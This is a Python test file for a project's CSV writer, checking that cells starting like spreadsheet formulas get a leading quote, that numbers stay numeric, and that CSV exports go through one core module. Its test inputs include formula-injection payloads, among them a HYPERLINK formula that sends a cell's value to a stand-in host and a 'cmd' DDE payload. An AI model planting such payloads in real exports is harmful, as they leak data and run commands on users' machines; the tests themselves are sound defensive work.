"""The one CSV writer: formula cells neutralised (OWASP), numbers kept numeric, and no
module outside ``core`` writing a CSV by itself."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from core.csv import safe_cell, write_csv, write_csv_zip

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "-2",
    ],
)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-2, 0, 3, -1.5, Decimal("-2.50")])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "text", ["Ana Agent", "a=b", "x-1", "", "O'Brien", "2026-07-01"]
)
def test_plain_text_is_unchanged(text):
    assert safe_cell(text) == text


def test_none_is_an_empty_cell_and_other_values_are_text():
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"


def test_write_csv_escapes_the_header_and_every_row():
    text = write_csv(["Name", "=Total"], [["@x", -2], ["Ana", Decimal("1.5")]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["Name", "'=Total"],
        ["'@x", "-2"],
        ["Ana", "1.5"],
    ]


# Files that write CSV *input* for the importers (a LinkedIn export, a people file);
# nothing a user downloads.
INPUT_FABRICATORS = {"development/demo/contacts.py", "bench/import_people.py"}
SKIP_DIRS = {
    ".venv",
    "tests",
    "migrations",
    "node_modules",
    "instance",
    "test-artifacts",
}


def test_write_csv_zip_holds_each_file_written_safely_and_stored():
    import zipfile

    body = write_csv_zip(
        {
            "people.csv": (["Name", "Hours"], [["=cmd()", -2]]),
            "needs.csv": (["Skill"], [["Ålesund Ωmega"]]),
        }
    )
    archive = zipfile.ZipFile(io.BytesIO(body))
    assert archive.namelist() == ["people.csv", "needs.csv"]
    assert archive.read("people.csv").decode() == "Name,Hours\r\n'=cmd(),-2\r\n"
    assert {i.compress_type for i in archive.infolist()} == {zipfile.ZIP_STORED}
    # Stored, so a response's text shows what it carries (the private-data sweep).
    assert "Ålesund Ωmega".encode() in body


def test_no_module_outside_core_writes_csv_by_itself():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT)
        if rel.parts[0] in SKIP_DIRS | {"core"} or rel.parts[0].startswith("."):
            continue
        if rel.as_posix() in INPUT_FABRICATORS:
            continue
        if writers.search(path.read_text(encoding="utf-8")):
            offenders.append(rel.as_posix())
    assert offenders == [], "write CSV through core.csv.write_csv"
